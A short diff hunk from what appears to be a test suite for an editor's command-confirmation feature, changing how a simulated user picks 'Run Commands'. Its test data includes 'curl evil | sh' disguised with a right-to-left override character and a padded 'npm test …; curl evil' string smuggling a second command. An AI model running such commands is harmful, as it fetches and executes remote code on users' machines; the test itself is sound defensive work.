@@ -177,7 +177,7 @@ describe('verifying evidence in the editor', () => {
     assert.match(said()[0]?.detail ?? '', /^Warning: .*\(1\).*\n\n# lint\n {2}curl evil ⟨U\+202E⟩\| sh$/);
     editor.reset();
     const long = `npm test ${'x'.repeat(5_000)}; curl evil`;
-    editor.will(person.picks(true));
+    editor.will(person.picks('Run Commands'));
     await verifyEvidence(workbench, of(equal, { isAsked: true, commands: [long] }));
     assert.match(
       documents[0] ?? '',
